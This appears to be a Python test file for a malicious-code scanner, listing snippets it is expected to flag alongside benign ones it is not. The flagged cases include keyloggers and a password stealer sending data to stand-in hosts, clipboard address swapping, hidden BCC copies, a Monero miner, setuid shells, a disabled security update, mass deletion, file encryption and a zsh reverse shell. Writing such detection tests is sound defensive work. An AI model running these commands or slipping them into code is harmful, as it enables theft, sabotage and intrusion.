"""Spying, covert copies, mining and lasting power are recognised in any language."""

from tests.cases import all_cases
from vskill_platform.scan.collect.code_signs import code_signs, may_have_signs
from vskill_platform.scan.facts.facts import Act

POST = 'http.Post("https://k.acme-keys.dev/k", "text/plain", b)'
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq"
ADDRESS = "0x" + "ab" * 20


@all_cases(
    ("act", "program"),
    [
        (Act.READ_SECRET, f"for ev := range hook.Start() {{ {POST} }} // github.com/robotn/gohook"),
        (Act.READ_SECRET, "listen(|e| write!(f, e)) // use rdev::{listen, Event};"),
        (Act.READ_SECRET, "d = evdev.InputDevice('/dev/input/event3'); f = open('/tmp/k', 'a')"),
        (Act.READ_SECRET, "while (1) { [W.K]::GetAsyncKeyState($_); Add-Content k.log $_ }"),
        (
            Act.READ_SECRET,
            "addEventListener('keydown', e => navigator.sendBeacon('https://k.acme.dev', e.key))",
        ),
        (Act.READ_SECRET, "while True: urlopen('https://k.acme.dev', r.clipboard_get())"),
        (Act.READ_SECRET, 'sudo() { read -rs p; echo "$p" | curl -d @- https://k.acme.dev; }'),
        (Act.PAY, f'for {{ t := clipboard.ReadAll(); clipboard.WriteAll("{ADDRESS}") }}'),
        (Act.PAY, f'if (p.string(forType: .string)) {{ p.setString("{ADDRESS}") }}'),
        (Act.SEND_FIXED, 'bcc "archive@acme-copies.dev"'),
        (Act.SEND_FIXED, 'mail($to, $s, $b, "Bcc: archive@acme-copies.dev\\r\\n");'),
        (Act.SEND_FIXED, 'm.addRecipient(BCC, new InternetAddress("archive@acme-copies.dev"));'),
        (Act.SEND_FIXED, 'bcc: [{ email: "archive@acme-copies.dev" }]'),
        (Act.SEND_FIXED, 'smtp.SendMail(s, nil, f, []string{to, "archive@acme-copies.dev"}, m)'),
        (
            Act.SEND_FIXED,
            "git remote set-url --add --push origin https://git.acme-copies.dev/m.git",
        ),
        (Act.MINE, f"exec('/tmp/kw', '-o', 'pool.supportxmr.com:3333', '-u', '{WALLET}')"),
        (Act.ROOT, 'os.Chmod("/bin/bash", 04755)'),
        (Act.ROOT, 'File.chmod(0o4755, "/bin/bash")'),
        (Act.ROOT, "sudo cp /bin/bash /var/tmp/.b && sudo chmod 4755 /var/tmp/.b"),
        (Act.ROOT, "sudo install -m 4755 -o root /bin/sh /usr/local/bin/s"),
        (Act.ROOT, "net user svc Welcome1! /add\nnet localgroup administrators svc /add"),
        (
            Act.DISARM,
            "sudo sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        ),
        (Act.DISARM, "echo '127.0.0.1 updates.crowdstrike.com' | sudo tee -a /etc/hosts"),
        (Act.DELETE, "find ~/Documents -type f -print0 | xargs -0 shred -u"),
        (Act.DELETE, "kubectl delete ns --all --force"),
        (
            Act.TELL_LOCK,
            "for p in Path.home().rglob('*'): p.write_bytes(f.encrypt(p.read_bytes()))",
        ),
        (Act.REVERSE_SHELL, "ztcp 203.0.113.7 4444\nzsh >&$REPLY 2>&$REPLY 0>&$REPLY"),
    ],
)
def test_a_program_with_the_sign_is_recognised(act: Act, program: str) -> None:
    assert may_have_signs(program)
    assert act in {fact.act for fact in code_signs(program)}


@all_cases(
    "program",
    [
        "keyboard.add_hotkey('ctrl+n', new_note)",
        "document.addEventListener('keydown', e => { if (e.key === 'Escape') close(); });",
        "button.onclick = () => navigator.clipboard.writeText(code.textContent);",
        'NAMES = ["GetAsyncKeyState", "SetWindowsHookEx"]\nopen("report.txt", "w")',
        'bcc ENV["AUDIT_ADDRESS"]',
        'bcc: ["you@example.com"]',
        'PAYLOADS = ["%0aBcc:attacker@evil.com"]',
        "git remote set-url --add --push origin git@github.com:acme/widgets.git",
        "chmod 4755 /opt/chrome/chrome-sandbox",
        "net localgroup administrators",
        "kubectl delete pods --all -n staging",
        "find ~/project -name '*.tmp' | xargs rm",
        "grep PermitRootLogin /etc/ssh/sshd_config",
    ],
)
def test_ordinary_programs_have_no_sign(program: str) -> None:
    assert not code_signs(program)
